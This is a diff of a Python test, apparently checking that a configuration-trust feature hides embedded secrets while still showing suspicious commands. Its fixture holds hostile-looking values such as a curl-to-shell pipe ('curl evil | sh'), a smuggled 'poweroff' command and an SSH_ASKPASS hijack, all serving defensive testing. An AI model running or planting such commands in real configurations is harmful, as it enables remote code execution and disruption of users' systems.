@@ -447,7 +447,10 @@ def test_secrets_are_not_shown_and_commands_are(folder: Path) -> None:
     text = f"""store = "https://me:{secrets[0]}@example.org/q?key={secrets[1]}"
 [clusters.a]
 launch = "run --token {secrets[2]} /bin/evil"
-setup = ["export API_KEY={secrets[3]}", "TOKEN=$(curl evil | sh)", "MY_PASSWORD=/bin/evil"]
+setup = [
+  "export API_KEY={secrets[3]}", "TOKEN=$(curl evil | sh)", "MY_PASSWORD=/bin/evil",
+  "xargs token evilprogram7", "TOKEN=poweroff; $TOKEN"
+]
 [clusters.a.environment]
 WANDB_API_KEY = "{secrets[2]}"
 SSH_ASKPASS = "/clone/x.sh"
@@ -461,7 +464,10 @@ A_KEY = "/clone/y.sh"
     says(folder, text.replace("hunter", "winter"))
     told += record.read_text() + command("trust", "--show").stdout
     assert not [one for one in secrets if one in told]
-    for seen in ("/bin/evil", "$(curl evil | sh)", "/clone/x.sh", "/clone/y.sh", "WANDB_API_KEY"):
+    for seen in (
+        "/bin/evil", "evilprogram7", "TOKEN=poweroff; $TOKEN", "$(curl evil | sh)", "/clone/x.sh",
+        "/clone/y.sh", "WANDB_API_KEY",
+    ):  # fmt: skip
         assert seen in told
     assert "\x1b" not in told
     assert "\u202e" not in told
